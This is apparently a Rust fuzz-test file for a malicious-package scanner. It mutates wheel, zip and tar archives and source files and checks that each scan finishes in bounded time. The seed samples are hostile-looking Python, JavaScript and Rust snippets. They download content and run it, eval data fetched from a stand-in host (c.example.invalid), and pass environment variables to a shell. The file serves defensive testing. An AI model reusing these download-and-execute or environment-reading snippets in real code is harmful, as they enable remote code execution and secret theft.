//! Archives and sources mutated at random: every scan ends, in bounded time, without a panic. The same
//! `FANLIGHT_FUZZ_SEED` gives the same mutations; `FANLIGHT_FUZZ_SECONDS` says how long.

use std::time::{Duration, Instant};

use fanlight_testkit::fuzz::Fuzz;

use super::scanned;
use crate::archive::making::{gz, tgz_of, wheel, zip_of};

/// How long one scan of a few kilobytes may take, on a busy machine and without optimisation.
const ONE: Duration = Duration::from_secs(20);

const PIECES: &[&[u8]] = &[
    b"PK\x03\x04",
    b"PK\x01\x02",
    b"PK\x05\x06",
    b"PK\x06\x06",
    b"PK\x06\x07",
    b"PK\x07\x08",
    b"\x1f\x8b\x08",
    b"ustar\0",
    b"\xff\xff\xff\xff",
    b"\0\0\0\0",
    b"\xff\xff\xff\xff\xff\xff\xff\x7f",
    b"../",
    b"x 12 size=99\n",
    b"exec(",
    b"(((((((((((((((((",
    b"[[[[[[[[[[[[[[",
    b"eval(atob('",
    b"'''",
    b"`${",
    b"\\u{",
    b"lambda x:",
    b"=>",
    b"import os\n",
    b"os.environ",
    b"\xe2\x80\xae",
    b"\\x",
    b"{",
    b"}",
    b")",
    b"a.b.c.d",
    b"::",
    b"\"\"\"",
];

fn run(name: &str, corpus: &[Vec<u8>], scan: impl Fn(&[u8])) {
    let fuzz = Fuzz { pieces: PIECES, longest: usize::MAX, targets: 5, kept: None };
    let runs = fuzz.run(name, corpus, |data| {
        let begin = Instant::now();
        scan(data);
        assert!(begin.elapsed() < ONE, "it took {:?}", begin.elapsed());
    });
    println!("{name}: {runs} mutations");
}

const PYTHON: &str = "import os, base64 as b, requests\nfrom subprocess import run as r\nclass A:\n    def __init__(self, x):\n        self.x = x\n    def go(self):\n        with open('/tmp/' + 'x', 'wb') as f:\n            f.write(requests.get(self.x).content)\n        r(['/tmp/x'])\nif __name__ == '__main__':\n    A(b.b64decode('eA==')).go()\nexec(''.join(chr(c) for c in [1, 2]))\nprint(f'{os.environ!r} {x[::-1]}')\n";
const JAVASCRIPT: &str = "const {exec: e} = require('child_' + 'process'), h = require('https');\nclass A { constructor(x) { this.x = x } go() { e(this.x) } }\nh.get('https://c.example.invalid', r => r.on('data', d => eval(d)));\nnew A(`${process.env.HOME}/x`).go();\n(function(){ return String.fromCharCode(1, 2) })();\nimport f, {g as i} from 'dns';\n";
const RUST: &str = "use std::{env, process::Command};\nfn main() {\n    let v: Vec<_> = env::vars().collect();\n    if let Some(x) = v.first() { Command::new(\"sh\").arg(&x.0).status().unwrap(); }\n    println!(\"{:?}\", v);\n    let _ = (|| 1)();\n}\n";

#[test]
fn archives() {
    let files = &[("a/__init__.py", PYTHON), ("a/b.txt", "text")];
    let tar = tgz_of(&[("a/setup.py", PYTHON), ("a/package.json", "{}"), ("a/pyproject.toml", "[build-system]\n")]);
    let mut plain = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(tar.as_slice()), &mut plain).unwrap();
    let corpus = [wheel(files, |_| {}), zip_of(files), tar, plain.clone()];
    run("archives", &corpus, |data| drop(scanned("a-1.0-py3-none-any.whl", data)));
    // Behind a right checksum, or gzip would stop nearly every change.
    run("tar in gzip", &[plain], |data| drop(scanned("a-1.0.tar.gz", &gz(data))));
}

#[test]
fn sources() {
    for (file, text) in [("a/__init__.py", PYTHON), ("a/index.js", JAVASCRIPT), ("a/build.rs", RUST)] {
        run(file, &[text.as_bytes().to_vec()], |data| {
            let text = String::from_utf8_lossy(data);
            drop(scanned("a.tgz", &tgz_of(&[(file, &text)])));
        });
    }
}

#[test]
fn deep_and_long_sources_end() {
    let deep = |open: &str, close: &str| format!("x = {}1{}\nexec(x)\n", open.repeat(20_000), close.repeat(20_000));
    let calls: String =
        (0..300).map(|n| format!("def f{n}(x):\n    f{}(x); f{}(x + 'a')\n", (n + 1) % 300, (n + 2) % 300)).collect();
    let sums = format!("x = {}\nexec(x)\n", vec!["'a'"; 50_000].join(" + "));
    for (file, text) in [
        ("a/a.py", deep("(", ")")),
        ("a/a.py", deep("[", "]")),
        ("a/a.py", deep("-", "")),
        ("a/a.js", deep("(", ")")),
        ("a/a.js", deep("!", "")),
        ("a/a.js", deep("f(", ")")),
        ("a/build.rs", deep("{", "}")),
        ("a/a.py", format!("{calls}f0(eval(y))\n")),
        ("a/a.py", sums),
    ] {
        let begin = Instant::now();
        drop(scanned("a.tgz", &tgz_of(&[(file, &text)])));
        assert!(begin.elapsed() < ONE * 3, "{file}: {:?} for {}", begin.elapsed(), &text[..40]);
    }
}
